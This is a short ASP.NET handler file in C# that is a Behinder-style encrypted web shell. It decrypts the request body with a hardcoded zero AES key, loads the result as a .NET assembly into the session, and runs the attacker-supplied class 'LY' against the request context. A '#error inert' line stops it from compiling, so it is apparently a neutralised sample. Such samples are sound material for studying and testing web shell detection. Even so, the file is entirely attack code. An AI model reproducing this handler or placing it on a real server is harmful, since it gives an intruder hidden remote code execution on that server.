<%@ WebHandler Language="C#" Class="H" %>
#error inert
using System.Web; using System.Reflection; using System.Security.Cryptography;
public class H : IHttpHandler, System.Web.SessionState.IRequiresSessionState {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext Context) {
        byte[] k = System.Text.Encoding.ASCII.GetBytes("0000000000000000");
        byte[] data = new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(Context.Request.BinaryRead(Context.Request.ContentLength), 0, Context.Request.ContentLength);
        if (Context.Session["p"] == null) { Context.Session["p"] = Assembly.Load(data); return; }
        object o = ((Assembly)Context.Session["p"]).CreateInstance("LY");
        System.IO.MemoryStream ms = new System.IO.MemoryStream();
        o.Equals(Context); o.Equals(ms); o.Equals(data); o.ToString();
        Context.Response.BinaryWrite(ms.ToArray());
    }
}
